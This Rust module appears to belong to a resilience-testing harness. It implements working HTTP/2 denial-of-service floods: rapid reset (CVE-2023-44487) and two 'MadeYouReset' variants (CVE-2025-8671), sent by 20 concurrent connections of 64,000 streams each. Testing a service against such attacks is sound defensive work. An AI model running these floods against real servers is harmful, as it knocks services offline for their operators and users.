//! Requests that are over before they are answered: by the client (CVE-2023-44487), or by the server because the client
//! has made it (CVE-2025-8671).

use std::io;
use std::sync::Arc;

use futures_util::FutureExt;
use tokio::io::AsyncWriteExt;

use crate::attack::{Attack, By, Node, Variant};
use crate::attacker::Attacker;
use crate::wire::http2::{
    DATA, END_HEADERS, END_STREAM, HEADERS, Http2, Method, NOTHING, RST_STREAM, WINDOW_UPDATE, drain, frame, head,
    stream,
};

pub(super) static ATTACK: Attack = Attack {
    name: "HTTP/2 resets",
    by: By::Stranger,
    node: Node::EMBEDDED,
    variants: &[
        Variant { name: "rapid reset", act: |attacker| attacker.crowd(20, rapid).boxed() },
        Variant { name: "MadeYouReset, a window of 0", act: |attacker| attacker.crowd(20, window_of_zero).boxed() },
        Variant {
            name: "MadeYouReset, DATA after the end",
            act: |attacker| attacker.crowd(20, data_after_end).boxed(),
        },
    ],
};

const AT_ONCE: u32 = 64;

/// Streams, again and again: what each of them is, is in `one`.
async fn streams(attacker: &Attacker, one: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    let Http2 { mut writing, reading } = Http2::open(&attacker.dialer, &[]).await?;
    let reading = tokio::spawn(drain(reading));
    for round in 0..1000 {
        let bytes: Vec<u8> = (0..AT_ONCE).flat_map(|n| one(stream(round * AT_ONCE + n))).collect();
        writing.write_all(&bytes).await?;
    }
    reading.await?
}

async fn rapid(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let head = head(Method::Get, "/v1/tenants/contoso/agents", &[("authorization", "Bearer x")]);
    streams(&attacker, |id| {
        [frame(HEADERS, END_HEADERS | END_STREAM, id, &head), frame(RST_STREAM, NOTHING, id, &CANCEL)].concat()
    })
    .await
}

async fn window_of_zero(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    let head = head(Method::Post, "/v1/enrollments", &[]);
    streams(&attacker, |id| {
        [frame(HEADERS, END_HEADERS, id, &head), frame(WINDOW_UPDATE, NOTHING, id, &[0; 4])].concat()
    })
    .await
}

async fn data_after_end(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    let head = head(Method::Get, "/v1/x", &[]);
    streams(&attacker, |id| {
        [frame(HEADERS, END_HEADERS | END_STREAM, id, &head), frame(DATA, NOTHING, id, b"x")].concat()
    })
    .await
}
